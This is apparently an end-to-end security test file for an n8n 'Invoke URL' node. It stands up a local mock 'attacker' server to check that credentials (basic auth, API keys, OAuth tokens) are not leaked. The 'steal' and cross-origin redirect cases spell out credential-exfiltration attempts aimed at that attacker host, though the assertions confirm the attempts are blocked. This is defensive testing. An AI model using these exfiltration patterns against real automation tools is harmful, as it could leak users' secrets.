'use strict';
// Issue 12 ("Trust") in a real n8n 2.41.1 with the packed package: Invoke URL workflows call the sandbox's generic
// provider with every Custom Service credential while a second local HTTP server, the "attacker", records every
// request it receives. Item 6: a URL from item data naming another host is refused before anything is sent.
// Item 7: a redirect to another origin never carries a credential; a same-origin one is authenticated again.
// Item 8: a POST that timed out or got a 500 is sent once. Item 10: OAuth 1.0a form and raw bodies pass the
// sandbox's RFC 5849 verifier with their headers kept.
const { describe, before, after, test } = require('node:test');
const assert = require('node:assert/strict');
const http = require('node:http');
const { PKG, PROVIDER, n8n, tarball, startSandbox, oauth1Tokens, oauth2Tokens } = require('./support');

const INVOKE = `${PKG}.invokeUrl`;
const WF_ID = 'e2eInvokeTrust01';
const CRED = {
	basic: { id: 'e2eTrustBasic001', name: 'Trust Basic', type: 'customServiceBasicApi' },
	keyHeader: { id: 'e2eTrustKeyH0001', name: 'Trust Key Header', type: 'customServiceApiKeyApi' },
	keyQuery: { id: 'e2eTrustKeyQ0001', name: 'Trust Key Query', type: 'customServiceApiKeyApi' },
	oauth2: { id: 'e2eTrustOAuth2001', name: 'Trust OAuth2', type: 'customServiceOAuth2Api' },
	oauth1: { id: 'e2eTrustOAuth1001', name: 'Trust OAuth1', type: 'customServiceOAuth1Api' },
};

/** The attacker: answers 200 to anything and keeps what it was sent. */
function startAttacker() {
	const seen = [];
	const server = http.createServer((req, res) => {
		const chunks = [];
		req.on('data', (c) => chunks.push(c));
		req.on('end', () => {
			seen.push({ method: req.method, url: req.url, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
			res.writeHead(200, { 'content-type': 'application/json' });
			res.end('{"attacker":true}');
		});
	});
	return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${server.address().port}`, seen, close: () => new Promise((r) => server.close(r)) })));
}

function credentials(sb, tokens) {
	const provider = `${sb.url}/provider`;
	const user = PROVIDER.users[0];
	return [
		{ ...CRED.basic, data: { serviceName: 'Sandbox', baseUrl: provider, user: user.username, password: user.password } },
		{ ...CRED.keyHeader, data: { serviceName: 'Sandbox', baseUrl: provider, location: 'header', keyName: 'X-API-Key', apiKey: PROVIDER.apiKey, valuePrefix: '' } },
		{ ...CRED.keyQuery, data: { serviceName: 'Sandbox', baseUrl: provider, location: 'query', keyName: 'api_key', apiKey: PROVIDER.apiKey, valuePrefix: '' } },
		{
			...CRED.oauth2,
			data: {
				serviceName: 'Sandbox', baseUrl: provider, grantType: 'authorizationCode', authUrl: `${provider}/oauth2/authorize`, accessTokenUrl: `${provider}/oauth2/token`,
				clientId: PROVIDER.clientId, clientSecret: PROVIDER.clientSecret, scope: 'read', authQueryParameters: '', authentication: 'header', oauthTokenData: tokens.oauth2,
			},
		},
		{
			...CRED.oauth1,
			data: {
				serviceName: 'Sandbox', baseUrl: provider, requestTokenUrl: `${provider}/oauth1/request_token`, authUrl: `${provider}/oauth1/authorize`,
				accessTokenUrl: `${provider}/oauth1/access_token`, consumerKey: PROVIDER.oauth1.consumerKey, consumerSecret: PROVIDER.oauth1.consumerSecret,
				signatureMethod: 'HMAC-SHA1', oauthTokenData: tokens.oauth1,
			},
		},
	];
}

const away = (attacker, key) => `/redirect?status=302&to=${encodeURIComponent(`${attacker.url}/r-${key}?x=1`)}`;

function cases(attacker) {
	return {
		'steal-basic': { cred: 'basic', method: 'GET', url: '={{ $json.body.url }}' },
		'steal-key': { cred: 'keyQuery', method: 'GET', url: '={{ $json.body.url }}' },
		'redirect-basic': { cred: 'basic', method: 'GET', url: away(attacker, 'basic') },
		'redirect-key-header': { cred: 'keyHeader', method: 'GET', url: away(attacker, 'key-header') },
		'redirect-key-query': { cred: 'keyQuery', method: 'GET', url: away(attacker, 'key-query') },
		'redirect-oauth2': { cred: 'oauth2', method: 'GET', url: away(attacker, 'oauth2') },
		'redirect-oauth1': { cred: 'oauth1', method: 'POST', url: `${away(attacker, 'oauth1').replace('status=302', 'status=307')}`, contentType: 'form' },
		'redirect-same-origin': { cred: 'basic', method: 'GET', url: `/redirect?to=${encodeURIComponent('/provider/echo?hop=2')}` },
		'slow-post': { cred: 'basic', method: 'POST', url: '/slow?key=e2e-slow&delayMs=1500', options: { timeout: 300, retries: 3 } },
		'flaky-post': { cred: 'basic', method: 'POST', url: '/flaky?key=e2e-flaky&fail=1&status=500', options: { retries: 3 } },
		'oauth1-form': { cred: 'oauth1', method: 'POST', url: '/oauth1/resource?q=1', contentType: 'form' },
		'oauth1-csv': { cred: 'oauth1', method: 'PUT', url: '/oauth1/resource', contentType: 'raw', rawBody: 'id,name\n1,Ada\n', headers: [{ name: 'Content-Type', value: 'text/csv' }] },
	};
}

function workflow(attacker) {
	const nodes = [];
	const connections = {};
	let y = 0;
	for (const [key, c] of Object.entries(cases(attacker))) {
		const hook = `Hook ${key}`;
		const call = `Invoke ${key}`;
		nodes.push({ id: `hook-${key}`, name: hook, type: 'n8n-nodes-base.webhook', typeVersion: 2, position: [0, y], webhookId: `trust-${key}`, parameters: { httpMethod: 'POST', path: `trust-${key}`, responseMode: 'lastNode', options: {} } });
		const auth = CRED[c.cred].type;
		nodes.push({
			id: `call-${key}`,
			name: call,
			type: INVOKE,
			typeVersion: 1,
			position: [300, y],
			onError: 'continueRegularOutput',
			parameters: {
				authentication: auth,
				method: c.method,
				url: c.url,
				headers: { header: [{ name: 'X-Trust-Case', value: key }, ...(c.headers || [])] },
				parameters: { parameter: [{ name: 'who', value: 'e2e' }, { name: 'note', value: 'a b&c' }] },
				contentType: c.contentType || 'json',
				...(c.rawBody ? { rawBody: c.rawBody } : {}),
				options: { timeout: 10000, retries: 0, ...(c.options || {}) },
			},
			credentials: { [auth]: { id: CRED[c.cred].id, name: CRED[c.cred].name } },
		});
		connections[hook] = { main: [[{ node: call, type: 'main', index: 0 }]] };
		y += 200;
	}
	return { id: WF_ID, name: 'E2E Invoke URL trust', active: false, nodes, connections, settings: { executionOrder: 'v1' }, pinData: {} };
}

const SECRETS = [PROVIDER.apiKey, PROVIDER.users[0].password, PROVIDER.oauth1.consumerSecret, PROVIDER.clientSecret];

describe('Invoke URL trust (issue 12) in a real n8n', () => {
	let sb;
	let attacker;
	let inst;
	const call = (key, body = {}) => n8n.callWebhook(inst, `trust-${key}`, { body });
	const attempts = async (kind, key) => (await (await fetch(`${sb.url}/provider/attempts?kind=${kind}&key=${key}`)).json()).count;

	before(async () => {
		sb = await startSandbox();
		attacker = await startAttacker();
		inst = await n8n.createInstance({ name: 'invoke-trust', installMode: 'tarball', tarball: tarball() });
		const tokens = { oauth2: await oauth2Tokens(sb.url, `${inst.url}/rest/oauth2-credential/callback`), oauth1: await oauth1Tokens(sb.url) };
		n8n.importCredentials(inst, credentials(sb, tokens));
		n8n.importWorkflows(inst, [workflow(attacker)]);
		await n8n.start(inst);
		await n8n.activateWorkflow(inst, WF_ID); // REST: fails loudly if n8n refuses the workflow
		// n8n answers 404 for a short while after activation although the webhooks are stored: wait for them.
		for (const until = Date.now() + 60_000; (await call('redirect-same-origin')).status === 404; ) {
			if (Date.now() > until) throw new Error('the workflow webhooks were never registered');
			await new Promise((r) => setTimeout(r, 500));
		}
	});
	after(async () => {
		if (inst) await n8n.stop(inst);
		if (attacker) await attacker.close();
		if (sb) await sb.close();
	});

	test('item 6: a URL from item data naming another host is refused before any request, and the error names the host', async () => {
		for (const key of ['steal-basic', 'steal-key']) {
			const r = await call(key, { url: `${attacker.url}/collect?from=${key}` });
			assert.equal(r.status, 200, JSON.stringify(r.body));
			assert.match(String(r.body.error), /is not sent to 127\.0\.0\.1:\d+: it is only sent to http:\/\/127\.0\.0\.1:\d+/);
		}
		assert.deepEqual(attacker.seen.filter((s) => s.url.startsWith('/collect')), []);
	});

	test('item 7: a cross-origin redirect reaches the attacker without any credential', async () => {
		for (const key of ['basic', 'key-header', 'key-query', 'oauth2', 'oauth1']) {
			const r = await call(`redirect-${key}`);
			assert.equal(r.status, 200, JSON.stringify(r.body));
			assert.deepEqual(r.body.body, { attacker: true }, `${key}: ${JSON.stringify(r.body)}`);
			const hit = attacker.seen.find((s) => s.url.startsWith(`/r-${key}`));
			assert.ok(hit, `${key}: the attacker saw no request`);
			assert.equal(hit.headers.authorization, undefined, `${key}: Authorization reached the attacker`);
			assert.equal(hit.headers['x-api-key'], undefined, `${key}: the API key header reached the attacker`);
			assert.ok(!/api_key|oauth_/.test(hit.url), `${key}: ${hit.url}`);
			assert.ok(!/oauth_/.test(hit.body), `${key}: OAuth parameters in the body`);
			for (const secret of SECRETS) assert.ok(!JSON.stringify(hit).includes(secret), `${key}: a secret reached the attacker`);
			assert.equal(hit.headers['x-trust-case'], `redirect-${key}`);
		}
	});

	test('item 7: a same-origin redirect is authenticated again', async () => {
		const r = await call('redirect-same-origin');
		assert.equal(r.status, 200, JSON.stringify(r.body));
		assert.equal(r.body.statusCode, 200, JSON.stringify(r.body));
		assert.deepEqual(r.body.body.auth, { type: 'basic', user: PROVIDER.users[0].username });
		assert.equal(r.body.body.query.hop, '2');
	});

	test('item 8: a POST that timed out, and one answered 500, are each sent once', async () => {
		const slow = await call('slow-post');
		assert.match(String(slow.body.error), /timed out/, JSON.stringify(slow.body));
		await new Promise((r) => setTimeout(r, 1800));
		assert.equal(await attempts('slow', 'e2e-slow'), 1);
		const flaky = await call('flaky-post');
		assert.match(String(flaky.body.error), /status 500/, JSON.stringify(flaky.body));
		assert.equal(await attempts('flaky', 'e2e-flaky'), 1);
	});

	test('item 10: OAuth 1.0a form and raw bodies pass the RFC 5849 verifier, with their headers', async () => {
		const form = await call('oauth1-form');
		assert.equal(form.body.statusCode, 200, JSON.stringify(form.body));
		assert.deepEqual(form.body.body.auth.signedParameters, ['q', 'who', 'note']);
		assert.deepEqual(form.body.body.body, { who: 'e2e', note: 'a b&c' });
		assert.equal(form.body.body.headers['x-trust-case'], 'oauth1-form');
		const csv = await call('oauth1-csv');
		assert.equal(csv.body.statusCode, 200, JSON.stringify(csv.body));
		assert.equal(csv.body.body.contentType, 'text/csv');
		assert.equal(csv.body.body.rawBody, 'id,name\n1,Ada\n');
		assert.equal(csv.body.body.headers['x-trust-case'], 'oauth1-csv');
	});
});
